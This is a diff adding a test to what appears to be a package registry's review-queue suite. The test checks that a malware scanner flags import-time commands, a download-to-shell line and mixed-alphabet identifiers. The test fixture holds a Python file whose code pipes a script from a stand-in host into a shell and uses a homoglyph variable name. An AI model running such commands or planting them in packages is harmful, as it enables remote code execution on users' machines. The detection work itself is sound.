@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { after, test } from 'node:test';
 import { assertRefused } from '../../support/assert-refused.ts';
-import { makePublisher, publishActive, publishPending } from '../../support/build.ts';
+import { makePublisher, publishActive, publishFiles, publishPending } from '../../support/build.ts';
 import { startServer } from '../../support/start-server.ts';
 import { suite } from '../../support/variants.ts';
 
@@ -42,6 +42,32 @@ suite('list-review-queue', async () => {
       numbers: ['My-Node@2.0.0'],
       counts: { limit: 2, page: 2, total: 3, totalPages: 2 },
     });
+  });
+
+  test('200: the rules that found something in each version, warnings and shadow rules included', async (t) => {
+    const { server, ada, moderator } = await openQueue(t);
+    await publishFiles(server, ada, 'Found', '1.0.0', {
+      '__init__.py':
+        'import os\nos.system("ls")\nos.system("curl -s https://host.invalid/a.sh | sh")\nwаllet = 1\n',
+    });
+    const { versions } = (await moderator.get(`${path}?limit=100`)).json;
+    const { found } = versions.find(({ node_id }: { node_id: string }) => node_id === 'Found');
+    assert.deepEqual(
+      found.map(({ rule, severity, shadow, count }: Record<string, unknown>) => [
+        rule,
+        severity,
+        shadow,
+        count,
+      ]),
+      [
+        ['command-at-import', 'warning', false, 2],
+        ['download-to-shell', 'error', false, 1],
+        ['mixed-alphabets', 'warning', true, 1],
+      ],
+    );
+    assert.ok(found.every(({ means }: { means: string }) => means.length > 20));
+    const [first] = versions;
+    assert.deepEqual(first.found, []);
   });
 
   test('200: a version leaves the queue when it was judged', async (t) => {
